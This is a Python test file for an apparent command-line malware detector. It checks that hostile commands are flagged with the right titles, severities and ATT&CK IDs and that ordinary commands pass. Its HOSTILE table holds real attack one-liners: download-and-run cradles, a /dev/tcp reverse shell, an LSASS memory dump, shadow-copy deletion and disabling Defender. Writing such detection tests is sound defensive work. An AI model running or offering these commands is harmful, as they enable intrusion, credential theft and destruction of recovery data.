from __future__ import annotations

import math

import numpy as np
import polars as pl
import pytest

from vedette.abc import MALICIOUS, UNKNOWN
from vedette.detectors.command import Command
from vedette.features.command_line import CommandLine
from vedette.features.command_signs import SIGNS
from vedette.learning.registry import equip
from vedette.model import Severity
from vedette.scoring.additive import Additive
from vedette.scoring.artefact import Model
from vedette.scoring.calibration import Calibration
from vedette.testing.commands import commands
from vedette.testing.rows import rows_of

HOSTILE = {
    "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')\"": "Program fetched from elsewhere",  # noqa: E501 - a line is read as a whole
    "certutil.exe -urlcache -split -f http://192.0.2.7/a.exe C:\\Users\\Public\\a.exe": "Program fetched from elsewhere",
    "rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\a.dmp full": "Credentials taken",
    "vssadmin delete shadows /all /quiet": "Recovery destroyed",
    "regsvr32 /s /n /u /i:http://192.0.2.7/a.sct scrobj.dll": "System program runs foreign code",
    "bash -i >& /dev/tcp/192.0.2.7/443 0>&1": "Shell for somebody else",
    "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1577.12 2>&1": "Command for another host",
    "powershell Set-MpPreference -DisableRealtimeMonitoring $true": "Defences put out",
    "c^e^r^t^u^t^i^l -u^r^l^c^a^c^h^e -f http://192.0.2.7/a.exe a.exe": "Program fetched from elsewhere",
}
ORDINARY = (
    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer /prefetch:1',
    "ipconfig /all",
    "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1",
    "schtasks /query /fo LIST /v",
    "msiexec.exe /V",
    "git commit -m 'drop the shadow copies of the old table'",
    "sudo apt install -y curl",
    "/bin/sh -c cd / && run-parts --report /etc/cron.hourly",
    "net use Z: \\\\files\\plans /persistent:yes",
)


def _rows(lines: list[str]) -> pl.DataFrame:
    return rows_of(CommandLine, commands(lines))


@pytest.fixture
def chance() -> Command:
    """Return a detector whose weights are drawn: what holds for it holds for any model."""
    rng = np.random.default_rng(1)
    weights = {b.name: rng.normal(size=b.slots).astype(np.float32) for b in Command.encode(_rows(["ls"]))}
    table = Calibration(np.zeros(1), np.ones(1, np.int64), 1, np.zeros(1), np.full(1, 0.5), 0.01)
    known = np.ones(1 << 16, np.bool_)
    return Command(Model("command", "x", Command.encoder_version(), Additive(0.3, weights), table, known))


def test_contributions_are_the_margin_to_the_last_digit(chance: Command) -> None:
    rows = _rows([*HOSTILE, *ORDINARY, "whoami é'\"<" * 50, "certutil \x00 -urlcache http"])
    for margin, parts in zip(chance.margins(rows), chance.contributions(rows), strict=True):
        assert math.isclose(0.3 + math.fsum(p.nats for p in parts), margin, abs_tol=1e-6)
        assert all(p.text for p in parts)


def test_hostile_commands_are_found_and_called_by_their_name() -> None:
    detector, rows = equip(Command), _rows(list(HOSTILE))
    assert isinstance(detector, Command)
    verdicts = detector.judge(rows)["verdict"]
    assert [line for line, v in zip(HOSTILE, verdicts, strict=True) if v != MALICIOUS] == []
    assert dict(zip(HOSTILE, detector.titles(rows), strict=True)) == HOSTILE


def test_ordinary_commands_are_left_alone() -> None:
    detector, rows = equip(Command), _rows(list(ORDINARY))
    assert isinstance(detector, Command)
    assert [line for line, v in zip(ORDINARY, detector.judge(rows)["verdict"], strict=True) if v == MALICIOUS] == []


def test_nothing_beside_makes_a_command_look_better() -> None:
    detector = equip(Command)
    lines = [line for line in HOSTILE if not line.startswith(("bash", "c^"))]
    padded = [f"{line} & rem see https://www.example.com/help & echo done" for line in lines]
    assert (detector.score(_rows(padded)) >= detector.score(_rows(lines))).all()


def test_the_reason_points_at_the_characters() -> None:
    detector, rows = equip(Command), _rows([next(iter(HOSTILE))])
    [said] = detector.summaries(rows)
    assert said.startswith("root on web1 ran a command: what is fetched is run at once; also ")
    texts = [r.text for r in detector.reasons(rows)[0]]
    assert any("`iex (new-object net.webclient).downloadstring" in t for t in texts)


def test_severity_and_techniques_go_by_the_strongest_sign() -> None:
    detector, rows = equip(Command), _rows(["vssadmin delete shadows /all /quiet", "whoami"])
    assert detector.severities(rows) == [Severity.HIGH, Severity.LOW]
    assert detector.attacks(rows) == [("T1490",), ("T1033",)]


def test_what_cannot_be_read_is_not_judged() -> None:
    detector, rows = equip(Command), _rows(["\u4f60\u597d" * 40, "a " * 10_000])
    assert isinstance(detector, Command)
    assert detector.judge(rows)["verdict"].to_list() == [UNKNOWN, UNKNOWN]


def test_a_line_without_a_sign_has_no_evidence() -> None:
    rows = _rows(["an unknown tool --with some options"])
    assert [len(b.slot) for b in Command.encode(rows)] == [0, 0, 0]
    assert len(SIGNS) == Command.encode(rows)[1].slots
